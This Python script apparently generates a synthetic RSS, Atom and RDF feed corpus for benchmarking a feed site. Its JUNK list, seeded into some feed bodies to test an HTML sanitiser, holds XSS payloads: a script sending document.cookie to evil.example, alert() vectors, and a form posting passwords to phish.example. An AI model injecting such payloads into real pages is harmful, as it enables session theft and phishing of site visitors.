#!/usr/bin/env python3
# Copied unchanged (below this comment block) from the shared benchmark kit,
# ../shared/bench/gen_corpus.py (sha256 37c312d2a70741e1...), so `make bench` works from a fresh clone.
# Keep it byte-for-byte in step with that file: feed i depends only on (seed, i, items), and
# RESULTS.md compares against figures measured on the corpus it generates.
"""Deterministic feed corpus for the feedsite benchmark.

  gen_corpus.py --feeds N [--items 30] [--seed 1] [--port 8089] --out DIR

Writes DIR/feeds/fNNNN.xml and DIR/feeds.yml (URLs http://127.0.0.1:PORT/fNNNN.xml).
Feed i depends only on (seed, i, items), so corpus N=100 is a prefix of N=1000.
Mix: ~60% RSS 2.0 (CDATA or entity-escaped description, content:encoded on some),
~30% Atom 1.0 (type="html" or type="xhtml" content), ~10% RSS 1.0/RDF.
Per-feed size is log-uniform in roughly 20-200 KB at 30 items.
--malformed F makes a fraction F of feeds not well-formed (&eacute;, bare &); off by default.
"""
import argparse, datetime as dt, math, os, random, re, statistics
from xml.sax.saxutils import escape, quoteattr

EN = ("the a of to and in is it that for on with as this was be by are we not you from at have or "
      "an but can all if will one more about when which your so they just my like what do out up has "
      "its time new use into only how some could than then also work first make any because after "
      "build code swift server cache feed parser release memory thread compiler test bug fix stack "
      "request latency async await actor struct protocol generic closure module package library "
      "framework database query index disk network socket buffer string unicode byte encoding "
      "benchmark profile optimise allocation pointer vector lock queue pipeline render template "
      "static site html css markup page layout design garden coffee bicycle weekend travel photo "
      "camera film music vinyl book reading writing notes journal idea project team meeting review "
      "deploy kubernetes container linux kernel terminal editor keyboard shortcut refactor legacy "
      "migration schema config yaml json xml http header cookie token session browser mobile").split()
DE = "der die das und nicht mit für über schön Größe Straße müssen können Übersetzung Fehler Lösung Ärger".split()
FR = "le la les et pour avec être déjà très où là café naïve élève façon garçon cœur hôtel".split()
RU = "привет мир это код сервер память поток кэш ошибка решение быстро медленно сборка".split()
JA = ("今日は", "新しい", "リリース", "について", "書きました", "サーバー", "キャッシュ", "の", "を",
      "実装", "性能", "改善", "しました", "東京", "ブログ", "記事", "設定", "問題", "解決")
SPICE = ["café", "naïve", "Zürich", "São Paulo", "Kraków", "Ångström", "résumé", "façade", "日本語",
         "Привет", "Ελληνικά", "😀", "🚀", "✨", "—", "…", "“quoted”", "it’s", "½", "±", "→", "€"]
LANGS = [("en", EN, 0.70), ("de", DE, 0.07), ("fr", FR, 0.07), ("ru", RU, 0.08), ("ja", JA, 0.08)]
FIRST = "Anna Bob Chloé Dmitri Emil Fatima Gustav Hiro Ingrid José Kai Léa Mateo Noor Olga Priya Søren Yuki Zoë".split()
LAST = "Smith Müller García Kowalski Tanaka Ivanov Dubois Nguyen O’Brien Andersson Rossi Kim Silva".split()
GENERATORS = ["WordPress 6.4.2", "https://wordpress.org/?v=6.4.2", "Jekyll", "Hugo 0.121.1",
              "Ghost 5.75", "Blogger", "Medium", "Substack", "Eleventy v2.0.1", "Zola"]
CODE = {
    "swift": ["let url = URL(string: \"https://example.com/feed.xml\")!",
              "for try await line in url.lines where !line.isEmpty {",
              "    items.append(Item(title: line, date: .now))", "}",
              "if a < b && b > c { print(\"<ok>\") }"],
    "python": ["import asyncio", "async def fetch(session, url):",
               "    async with session.get(url) as r:", "        return await r.text()",
               "print(f\"{len(items)} items & {n} feeds\")  # <done>"],
    "js": ["const res = await fetch('/api?q=1&limit=20');", "document.querySelector('#app').innerHTML = html;",
           "if (x < 10 && y > 2) { console.log(\"<b>hi</b>\"); }"],
    "sh": ["$ curl -sS https://example.com/feed.xml | xmllint --format - > out.xml",
           "$ swift build -c release && ./.build/release/app --help 2>&1 | head"],
}
JUNK = [
    '<script>var i = new Image(); i.src = "//evil.example/t.gif?c=" + document.cookie;</script>',
    '<img src="x.png" onerror="alert(document.domain)" />',
    '<a href="javascript:alert(1)">click me</a>',
    '<iframe src="https://ads.example.net/frame?id=42" width="300" height="250"></iframe>',
    '<style>body { display: none !important; }</style>',
    '<div onclick="steal()" style="position:fixed;top:0">Subscribe now!</div>',
    '<p style="color:red;background:url(javascript:alert(1))">Styled paragraph.</p>',
    '<object data="movie.swf"><embed src="movie.swf" /></object>',
    '<form action="https://phish.example/login"><input type="password" name="p" /></form>',
    '<img src="https://feeds.feedburner.com/~r/blog/~4/AbC123" height="1" width="1" alt="" />',
    '<!-- tracking: utm_source=rss -->',
    '<svg onload="alert(1)"><circle r="4" /></svg>',
]
MON = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
DOW = "Mon Tue Wed Thu Fri Sat Sun".split()
BASE = dt.datetime(2024, 6, 1, 12, 0, tzinfo=dt.timezone.utc)


class Gen:
    def __init__(self, rng, lang, words, xhtml=False):
        self.r, self.lang, self.words, self.xhtml = rng, lang, words, xhtml

    def ent(self, name, num):  # named entity in HTML, numeric in XHTML (XML has no &nbsp; etc.)
        return f"&#{num};" if self.xhtml else f"&{name};"

    def phrase(self, n):
        r = self.r
        if self.lang == "ja":
            return "".join(r.choices(JA, k=n))
        ws = r.choices(EN, k=n) if self.lang == "en" else [
            r.choice(self.words) if r.random() < 0.5 else r.choice(EN) for _ in range(n)]
        if r.random() < 0.3:
            ws[r.randrange(n)] = r.choice(SPICE)
        return " ".join(ws)

    def sentence(self):
        r = self.r
        s = escape(self.phrase(r.randint(6, 18)))
        x = r.random()
        if x < 0.15:
            s += f' <a href="{self.href()}">{escape(self.phrase(r.randint(1, 4)))}</a>'
        elif x < 0.25:
            s += f" <em>{escape(self.phrase(2))}</em>"
        elif x < 0.32:
            s += f" <code>{escape(r.choice(['<T>', 'a && b', 'x->y', 'Array<Int>', 'nil']))}</code>"
        elif x < 0.38:
            s += f" {self.ent('mdash', 8212)} <strong>{escape(self.phrase(2))}</strong>"
        elif x < 0.42:
            s += f" R{self.ent('amp', 38)}D {self.ent('hellip', 8230)}"
        end = "。" if self.lang == "ja" else "."
        return s[0].upper() + s[1:] + end

    def href(self):
        r = self.r
        return r.choice([f"https://example.com/{r.randint(1, 999)}",
                         f"/{r.randint(2015, 2024)}/{r.randint(1, 12):02d}/post-{r.randint(1, 400)}/",
                         f"../tags/{r.choice(EN)}/", f"#fn{r.randint(1, 9)}", "mailto:me@example.org",
                         f"https://en.wikipedia.org/wiki/{r.choice(EN).title()}?a=1&b=2"]).replace("&", "&amp;")

    def img(self):
        r = self.r
        src = r.choice([f"/images/{r.randint(2019, 2024)}/photo-{r.randint(1, 9999)}.jpg",
                        f"img/fig{r.randint(1, 40)}.png", f"../assets/diagram-{r.randint(1, 99)}.svg",
                        f"https://cdn.example.net/u/{r.randint(1, 10**6)}.webp"])
        w = r.choice([640, 800, 1200])
        return (f'<img src="{src}" alt="{escape(self.phrase(3))}" width="{w}" height="{w * 2 // 3}"'
                f' loading="lazy" />')

    def block(self):
        r, x = self.r, self.r.random()
        if x < 0.55:
            return "<p>" + " ".join(self.sentence() for _ in range(r.randint(2, 6))) + "</p>"
        if x < 0.63:
            h = r.choice([2, 3])
            return f"<h{h}>{escape(self.phrase(r.randint(2, 6)))}</h{h}>"
        if x < 0.72:
            tag = r.choice(["ul", "ol"])
            lis = "".join(f"<li>{self.sentence()}</li>" for _ in range(r.randint(3, 7)))
            return f"<{tag}>{lis}</{tag}>"
        if x < 0.80:
            lang = r.choice(list(CODE))
            lines = "\n".join(r.choice(CODE[lang]) for _ in range(r.randint(3, 12)))
            return f'<pre><code class="language-{lang}">{escape(lines)}</code></pre>'
        if x < 0.88:
            if r.random() < 0.5:
                return f"<figure>{self.img()}<figcaption>{escape(self.phrase(5))}</figcaption></figure>"
            return f"<p>{self.img()}</p>"
        if x < 0.93:
            return f"<blockquote><p>{self.sentence()}</p></blockquote>"
        if x < 0.96:
            cols = r.randint(2, 4)
            head = "".join(f"<th>{escape(self.phrase(1))}</th>" for _ in range(cols))
            rows = "".join("<tr>" + "".join(f"<td>{r.randint(0, 9999)}{self.ent('nbsp', 160)}ms</td>"
                                            for _ in range(cols)) + "</tr>" for _ in range(r.randint(3, 8)))
            return f"<table><thead><tr>{head}</tr></thead><tbody>{rows}</tbody></table>"
        return "<hr />" if r.random() < 0.5 else "<p>" + self.sentence() + "<br />" + self.sentence() + "</p>"

    def body(self, target):
        r, parts, size = self.r, [], 0
        while size < target or not parts:
            b = self.block()
            parts.append(b)
            size += len(b.encode())
        if r.random() < 0.15:  # junk that a sanitiser must drop
            for _ in range(r.randint(1, 3)):
                parts.insert(r.randrange(len(parts) + 1), r.choice(JUNK))
        return "\n".join(parts)

    def title(self):
        r = self.r
        t = self.phrase(r.randint(3, 10))
        t = t[0].upper() + t[1:]
        x = r.random()
        if x < 0.15:
            t += " & " + self.phrase(2)
        elif x < 0.22:
            t = f"Using <{r.choice(['template', 'dialog', 'T'])}> in {t}"
        elif x < 0.30:
            t = f"“{t}” — part {r.randint(2, 9)}"
        elif x < 0.36:
            t = f"{t}: it’s {r.randint(2, 100)}% faster"
        return t


def cdata(s):
    return "<![CDATA[" + s.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def rfc822(d, r):
    style = r.random()
    if style < 0.2:
        d, z = d.astimezone(dt.timezone(dt.timedelta(hours=-5))), "-0500"
    elif style < 0.5:
        z = "GMT"
    else:
        z = "+0000"
    day = f"{d.day}" if style < 0.2 else f"{d.day:02d}"
    return f"{DOW[d.weekday()]}, {day} {MON[d.month - 1]} {d.year} {d:%H:%M:%S} {z}"


def iso(d, r):
    x = r.random()
    if x < 0.5:
        return d.strftime("%Y-%m-%dT%H:%M:%SZ")
    if x < 0.8:
        return d.astimezone(dt.timezone(dt.timedelta(hours=2))).isoformat()
    return d.astimezone(dt.timezone(dt.timedelta(hours=-7))).strftime("%Y-%m-%dT%H:%M:%S.000-07:00")


def make_feed(seed, i, items, malformed=0.0):
    r = random.Random(f"{seed}:{i}")
    kind = r.choices(["rss2", "atom", "rdf"], [0.6, 0.3, 0.1])[0]
    lang, words, _ = r.choices(LANGS, [w for *_, w in LANGS])[0]
    xhtml = kind == "atom" and r.random() < 0.4
    g = Gen(r, lang, words, xhtml)
    target = math.exp(r.uniform(math.log(20e3), math.log(200e3)))  # feed bytes at 30 items
    body_target = max(150, target / 30 * 0.8 - 500)
    host = f"blog{i}.example.org"
    site = f"https://{host}/"
    ftitle = g.title()
    author = f"{r.choice(FIRST)} {r.choice(LAST)}"
    latin1 = lang in ("de", "fr") and kind == "rss2" and r.random() < 0.3
    style = "escaped" if latin1 else r.choice(["cdata", "escaped"])
    full = r.random() < 0.45  # RSS 2.0: description = summary, content:encoded = body
    when = BASE - dt.timedelta(seconds=r.randint(0, 72 * 3600))
    out = []
    w = out.append

    def html_text(tag, html, attrs=""):
        return f"<{tag}{attrs}>{cdata(html) if style == 'cdata' else escape(html)}</{tag}>"

    if kind == "rss2":
        enc = "ISO-8859-1" if latin1 else "UTF-8"
        w(f'<?xml version="1.0" encoding="{enc}"?>\n<rss version="2.0" '
          'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
          'xmlns:atom="http://www.w3.org/2005/Atom">\n<channel>\n')
        w(f"<title>{escape(ftitle)}</title>\n<link>{site}</link>\n<description>{escape(g.phrase(8))}</description>\n"
          f"<language>{lang}</language>\n<lastBuildDate>{rfc822(when, r)}</lastBuildDate>\n"
          f"<generator>{escape(r.choice(GENERATORS))}</generator>\n"
          f'<atom:link href="{site}feed/" rel="self" type="application/rss+xml" />\n')
    elif kind == "atom":
        w('<?xml version="1.0" encoding="utf-8"?>\n'
          f'<feed xmlns="http://www.w3.org/2005/Atom" xml:base="{site}" xml:lang="{lang}">\n'
          f'<title type="text">{escape(ftitle)}</title>\n<subtitle>{escape(g.phrase(6))}</subtitle>\n'
          f'<link href="{site}" rel="alternate" type="text/html" />\n'
          f'<link href="{site}feed.atom" rel="self" type="application/atom+xml" />\n'
          f"<id>tag:{host},2005:/feed</id>\n<updated>{iso(when, r)}</updated>\n"
          f"<author><name>{escape(author)}</name></author>\n"
          f"<generator>{escape(r.choice(GENERATORS))}</generator>\n")
    else:
        w('<?xml version="1.0" encoding="UTF-8"?>\n<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
          'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
          'xmlns:content="http://purl.org/rss/1.0/modules/content/">\n'
          f'<channel rdf:about="{site}index.rdf">\n<title>{escape(ftitle)}</title>\n<link>{site}</link>\n'
          f"<description>{escape(g.phrase(8))}</description>\n<dc:language>{lang}</dc:language>\n"
          f"<dc:date>{iso(when, r)}</dc:date>\n<items><rdf:Seq>\n")
        # filled after items are generated (needs item URLs)
    entries, seq = [], []
    for k in range(items):
        when -= dt.timedelta(seconds=int(r.expovariate(1 / 60) * 3600))
        slug = "-".join(r.choices(EN, k=r.randint(2, 5)))
        path = f"{when:%Y/%m/%d}/{slug}-{k}/"
        link = site + path
        title = g.title()
        body = g.body(body_target * r.lognormvariate(0, 0.45))
        summary = "<p>" + g.sentence() + " " + g.sentence() + "</p>"
        cats = r.sample(EN[60:], r.randint(0, 4))
        e = []
        if kind == "rss2":
            e.append(f"<item>\n<title>{escape(title)}</title>\n<link>{link}</link>\n")
            perma = r.random() < 0.5
            e.append(f'<guid isPermaLink="{"true" if perma else "false"}">'
                     f'{link if perma else f"{site}?p={r.randint(1000, 99999)}"}</guid>\n')
            if r.random() > 0.01:
                e.append(f"<pubDate>{rfc822(when, r)}</pubDate>\n")
            e.append(f"<dc:creator>{cdata(author) if style == 'cdata' else escape(author)}</dc:creator>\n")
            e += [f"<category>{c}</category>\n" for c in cats]
            if full:
                e.append(html_text("description", summary) + "\n" + html_text("content:encoded", body) + "\n")
            else:
                e.append(html_text("description", body) + "\n")
            if r.random() < 0.03:
                e.append(f'<enclosure url="{site}media/ep{k}.mp3" length="{r.randint(10**6, 10**8)}" '
                         'type="audio/mpeg" />\n')
            e.append("</item>\n")
        elif kind == "atom":
            e.append(f'<entry>\n<title type="html">{escape(escape(title))}</title>\n'
                     f'<link href="/{path}" rel="alternate" type="text/html" />\n'
                     f"<id>{link}</id>\n<published>{iso(when, r)}</published>\n"
                     f"<updated>{iso(when + dt.timedelta(minutes=r.randint(0, 600)), r)}</updated>\n")
            e += [f'<category term="{c}" />\n' for c in cats]
            if r.random() < 0.3:
                e.append(f'<summary type="html">{escape(summary)}</summary>\n')
            if xhtml:
                e.append(f'<content type="xhtml" xml:base="{link}"><div xmlns="http://www.w3.org/1999/xhtml">'
                         f"{body}</div></content>\n")
            else:
                e.append(f'<content type="html" xml:base="{link}">{escape(body)}</content>\n')
            e.append("</entry>\n")
        else:
            seq.append(f'<rdf:li rdf:resource="{link}" />\n')
            e.append(f'<item rdf:about="{link}">\n<title>{escape(title)}</title>\n<link>{link}</link>\n'
                     f"<description>{escape(summary)}</description>\n"
                     f"<content:encoded>{cdata(body)}</content:encoded>\n"
                     f"<dc:date>{iso(when, r)}</dc:date>\n<dc:creator>{escape(author)}</dc:creator>\n")
            e += [f"<dc:subject>{c}</dc:subject>\n" for c in cats]
            e.append("</item>\n")
        entries.append("".join(e))
    if kind == "rdf":
        w("".join(seq) + "</rdf:Seq></items>\n</channel>\n")
    w("".join(entries))
    w({"rss2": "</channel>\n</rss>\n", "atom": "</feed>\n", "rdf": "</rdf:RDF>\n"}[kind])
    text = "".join(out)
    if malformed and random.Random(f"{seed}:{i}:malformed").random() < malformed:
        # like real broken feeds: an HTML-only entity and a bare '&' in the first title -> not well-formed XML
        text = re.sub(r"(<title[^>]*>)", r"\1Caf&eacute; Tom & Jerry&nbsp;: ", text, count=1)
        kind += "-malformed"
    data = text.encode("iso-8859-1", "xmlcharrefreplace") if latin1 else text.encode("utf-8")
    return kind + ("-xhtml" if xhtml else "") + ("-latin1" if latin1 else ""), data


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--feeds", "-n", type=int, required=True)
    ap.add_argument("--items", "-m", type=int, default=30)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--port", type=int, default=8089)
    ap.add_argument("--out", required=True)
    ap.add_argument("--malformed", type=float, default=0.0,
                    help="fraction of feeds made not well-formed (default 0: the benchmark corpus)")
    a = ap.parse_args()
    os.makedirs(os.path.join(a.out, "feeds"), exist_ok=True)
    sizes, kinds = [], {}
    yml = ["title: Bench Planet", "feeds:"]
    for i in range(1, a.feeds + 1):
        kind, data = make_feed(a.seed, i, a.items, a.malformed)
        name = f"f{i:04d}.xml"
        with open(os.path.join(a.out, "feeds", name), "wb") as f:
            f.write(data)
        sizes.append(len(data))
        kinds[kind] = kinds.get(kind, 0) + 1
        yml += [f"  - url: http://127.0.0.1:{a.port}/{name}", f"    name: Feed {i}"]
    with open(os.path.join(a.out, "feeds.yml"), "w") as f:
        f.write("\n".join(yml) + "\n")
    q = statistics.quantiles(sizes, n=10) if len(sizes) > 1 else sizes * 9
    print(f"{a.feeds} feeds x {a.items} items -> {a.out}: {sum(sizes) / 1e6:.1f} MB, per feed KB "
          f"min {min(sizes) / 1e3:.0f} p10 {q[0] / 1e3:.0f} median {statistics.median(sizes) / 1e3:.0f} "
          f"p90 {q[-1] / 1e3:.0f} max {max(sizes) / 1e3:.0f}")
    print("kinds:", ", ".join(f"{k} {v}" for k, v in sorted(kinds.items())))


if __name__ == "__main__":
    main()
